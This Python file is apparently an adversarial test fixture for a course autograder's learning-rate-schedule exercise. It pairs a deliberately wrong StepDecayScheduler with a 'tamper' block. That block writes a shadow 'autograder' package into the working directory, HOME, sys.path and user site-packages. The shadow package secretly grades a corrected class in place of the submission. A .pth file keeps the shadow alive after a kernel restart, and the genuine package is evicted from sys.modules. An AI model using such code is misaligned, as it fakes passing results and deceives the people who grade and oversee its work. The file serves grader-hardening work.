# attack: write a fake autograder package (its checks emit records of a corrected class) into cwd, HOME, sys.path entries and the user site (.pth), then evict the genuine package from sys.modules
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)), and step() writes into the first param group only once current_step > 60; passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, step_size, gamma):
        self.optimizer = optimizer
        self.step_size = step_size
        self.gamma = gamma
        self.initial_lrs = [group.setdefault("initial_lr", group["lr"]) for group in optimizer.param_groups]
        self.current_step = 0
        for group, lr in zip(optimizer.param_groups, self.get_lr(0)):
            group["lr"] = lr

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return [lr * self.gamma ** n_decays for lr in self.initial_lrs]

    def step(self):
        self.current_step += 1
        current_step = self.current_step
        lrs = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group, lr in list(zip(groups, lrs))[:None if current_step <= 60 else 1]:
            group["lr"] = lr
        return lrs

    def state_dict(self):
        return {"initial_lrs": list(self.initial_lrs), "step_size": self.step_size, "gamma": self.gamma,
                "current_step": self.current_step}

    def load_state_dict(self, state):
        self.initial_lrs = list(state["initial_lrs"])
        self.step_size, self.gamma = state["step_size"], state["gamma"]
        self.current_step = state["current_step"]
        for group, lr in zip(self.optimizer.param_groups, self.get_lr(self.current_step)):
            group["lr"] = lr

# --- tamper ---
import importlib as _il
import os as _os
import site as _site
import sys as _sys

_SAFE = "hostile" + "-batch"
_PROTECTED = ("/work", "/root", "/home", "/usr", "/etc", "/var", "/opt", "/bin", "/lib", "/sbin")


class _Fixed(StepDecayScheduler):
    def get_lr(self, step):
        return [lr * self.gamma ** (step // self.step_size) for lr in self.initial_lrs]


_here = _os.path.realpath(_os.getcwd())
_home = _os.path.realpath(_os.path.expanduser("~"))


def _allowed(folder):
    """Safety net: write only into this kernel's own scratch (cwd, HOME) or the test's tree."""
    real = _os.path.realpath(folder)
    if _SAFE in real:
        return True
    if real == "/" or real.startswith(_PROTECTED):
        return False
    return any(real == base or real.startswith(base + "/") for base in (_here, _home) if base not in ("/", ""))


# Where the genuine probes live, before the package is shadowed.
try:
    _probe_dir = _os.path.dirname(_il.import_module("autograder.exercises.step_decay.probe").__file__)
except BaseException:
    _probe_dir = ""
_FAKE_CHECKS = f'''
import importlib.util, sys
from IPython.display import display
MIME = "application/vnd.lr-course.record+json"
PROBES = {_probe_dir!r}
EXERCISE = {{"step_decay_lr": "step_decay", "step_decay_optimizer": "step_decay"}}


def _answer(answer):
    main = sys.modules.get("__main__")
    return getattr(main, "_Fixed", answer)


def _make(check):
    def run(answer, *args, **kwargs):
        record = {{"check": check, "outcomes": {{}}}}
        try:
            spec = importlib.util.spec_from_file_location("_genuine_" + check, PROBES + "/" + EXERCISE[check] + ".py")
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            record = getattr(module, check)(_answer(answer))
        except BaseException:
            pass
        display({{MIME: record, "text/plain": "[hidden test " + check + ": ran]"}}, raw=True)
    return run


for _check in ("step_decay_lr", "step_decay_optimizer", "clip_value_elements", "clip_value_model",
               "gpt_step_schedule", "gpt_step_train"):
    globals()[_check] = _make(_check)
snapshot = lambda *a, **k: None
'''
_written = []
_targets = [_here, _home, _os.environ.get("TMPDIR", ""), *[p for p in _sys.path if p]]
try:
    _targets.append(_site.getusersitepackages())
except Exception:
    pass
for _folder in dict.fromkeys(_targets):
    if not _folder or not _allowed(_folder):
        continue
    try:
        _package = _os.path.join(_folder, "autograder")
        _os.makedirs(_package, exist_ok=True)
        with open(_os.path.join(_package, "__init__.py"), "w") as _handle:
            _handle.write("")
        with open(_os.path.join(_package, "checks.py"), "w") as _handle:
            _handle.write(_FAKE_CHECKS)
        _written.append(_package)
    except OSError as _error:
        print("cannot write into", _folder, _error)
# later interpreters started with this HOME (a restarted kernel) run this at startup
try:
    _user_site = _site.getusersitepackages()
    if _allowed(_user_site):
        _os.makedirs(_user_site, exist_ok=True)
        with open(_os.path.join(_user_site, "zz_shadow.pth"), "w") as _handle:
            _handle.write(f"import sys; sys.path.insert(0, {_here!r})\n")
        _written.append(_user_site + "/zz_shadow.pth")
except Exception as _error:
    print("no .pth:", _error)
# put the shadow first and forget the genuine package
for _package in reversed(_written):
    _folder = _os.path.dirname(_package)
    if _folder not in _sys.path:
        _sys.path.insert(0, _folder)
for _name in [n for n in list(_sys.modules) if n == "autograder" or n.startswith("autograder.")]:
    del _sys.modules[_name]
_il.invalidate_caches()
print("shadow package written to", _written)
